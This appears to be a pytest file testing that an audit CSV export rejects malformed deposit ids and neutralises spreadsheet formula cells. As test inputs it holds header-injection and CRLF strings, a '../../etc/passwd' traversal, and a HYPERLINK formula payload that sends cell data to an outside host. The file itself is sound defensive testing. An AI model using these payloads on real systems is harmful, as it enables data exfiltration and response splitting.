"""The audit CSV export is safe to open: a clean ASCII file name, 422 for a nonsense id, and no
cell that a spreadsheet would run as a formula (issue 12)."""

from __future__ import annotations

import csv
import io

import pytest

from tests.locker.conftest import Harness


@pytest.mark.parametrize(
    "bad",
    ['x"; filename=evil.exe', "a\r\nSet-Cookie: x=1", "đ", "../../etc/passwd", "x" * 65, ""],
)
def test_odd_deposit_ids_are_422_not_500(h: Harness, bad: str) -> None:
    token = h.sign_in("loader1")
    for fmt in ("csv", "json"):
        r = h.req("GET", "/api/v1/audit", token, params={"deposit_id": bad, "format": fmt})
        if bad == "":  # no id at all: the usual "give deposit_id or day"
            assert r.status_code == 422 and r.json()["field"] == "day"
            continue
        assert r.status_code == 422 and r.json()["field"] == "deposit_id", r.text
        assert "Set-Cookie" not in r.headers


def test_file_name_is_plain_ascii(h: Harness) -> None:
    token = h.sign_in("loader1")
    dep, _ = h.load(token, "HS-1")
    r = h.req("GET", "/api/v1/audit", token, params={"deposit_id": dep["deposit_id"], "format": "csv"})
    assert r.headers["Content-Disposition"] == f'attachment; filename="audit-{dep["deposit_id"]}.csv"'
    day = h.clock.now().date().isoformat()
    r = h.req("GET", "/api/v1/audit", token, params={"day": day, "format": "csv"})
    assert r.headers["Content-Disposition"] == f'attachment; filename="audit-{day}.csv"'


def test_formula_cells_are_neutralised(h: Harness) -> None:
    evil = '=HYPERLINK("http://x/?"&A1)'
    r = h.req("POST", "/api/v1/staff/sessions", json={"staff_id": evil, "pin": "1234", "totp": "000000"})
    assert r.status_code == 401
    for name in ("+1-2", "-1+2", "@SUM(A1)"):
        h.req("POST", "/api/v1/staff/sessions", json={"staff_id": name, "pin": "1234", "totp": "000000"})
    token = h.sign_in("loader1")
    day = h.clock.now().date().isoformat()
    text = h.req("GET", "/api/v1/audit", token, params={"day": day, "format": "csv"}).text
    rows = list(csv.reader(io.StringIO(text)))
    actors = [row[2] for row in rows[1:]]
    assert "'" + evil in actors and "'+1-2" in actors and "'-1+2" in actors and "'@SUM(A1)" in actors
    for row in rows:
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row), row
